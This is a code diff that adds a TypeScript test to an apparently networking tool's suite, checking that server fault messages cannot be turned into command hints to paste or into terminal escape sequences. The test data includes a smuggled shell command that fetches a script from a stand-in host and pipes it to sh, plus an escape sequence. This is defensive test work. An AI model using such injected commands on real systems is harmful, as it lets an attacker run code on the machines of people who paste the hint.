@@ -26,6 +26,16 @@ test("the agent's words are told as its own, hint and fault too", () => {
   )
 })
 
+test('no hint of a fault at the server is a command to paste here', () => {
+  const hostile = { op: 'x', errno: 0, message: '(eth0;curl${IFS}x.example/a|sh; is down)' }
+  const down = { op: 'x', errno: 0, message: 'rxe0 port 1 is down (eth0 is down)' }
+  const hintOf = (fault: Omit<NativeFault, 'code'>) =>
+    rootFailure(noReport(), { ...noReport(), fault: { code: 'RDMA_PORT_DOWN', ...fault } }, false)
+      ?.hint
+  expect(hintOf(hostile)).toBe('The agent says: at the server, rdma link show')
+  expect(hintOf(down)).toBe('The agent says: at the server, sudo ip link set eth0 up')
+})
+
 test('the reason of a closed connection is no sequence for a terminal', () => {
   const fault = { code: 'QUIC', op: 'recv', errno: 0, message: 'recv: error 1 (\u001b[2J)' }
   expect(rootFailure({ ...noReport(), fault }, noReport(), false)?.message).toBe(
